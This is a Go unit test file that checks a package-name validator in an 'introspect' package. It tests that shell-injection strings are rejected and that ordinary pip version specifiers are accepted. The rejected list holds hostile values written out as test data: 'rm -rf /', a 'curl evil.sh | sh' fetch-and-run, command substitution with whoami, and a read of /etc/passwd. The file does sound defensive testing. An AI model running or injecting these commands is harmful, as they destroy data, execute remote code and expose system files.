// Copyright 2025 Alibaba Group Holding Ltd.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package introspect

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestPackageNameRejectsShellMetacharacters(t *testing.T) {
	bad := []string{
		"numpy; rm -rf /",
		"numpy && curl evil.sh | sh",
		"numpy`whoami`",
		"numpy$(whoami)",
		"numpy | cat /etc/passwd",
		"",
		" numpy",
	}
	for _, name := range bad {
		assert.Falsef(t, packageNameRe.MatchString(name), "expected %q to be rejected", name)
	}
}

func TestPackageNameAcceptsValidSpecs(t *testing.T) {
	good := []string{
		"numpy",
		"numpy==1.26.0",
		"scikit-learn",
		"pandas>=2.0,<3.0",
		"requests!=2.0.0",
	}
	for _, name := range good {
		assert.Truef(t, packageNameRe.MatchString(name), "expected %q to be accepted", name)
	}
}

func TestInstallPackageRejectsBadNameWithoutCallingKernel(t *testing.T) {
	m := &Manager{}
	err := m.InstallPackage("nb.ipynb", "numpy; rm -rf /")
	assert.Error(t, err)
}
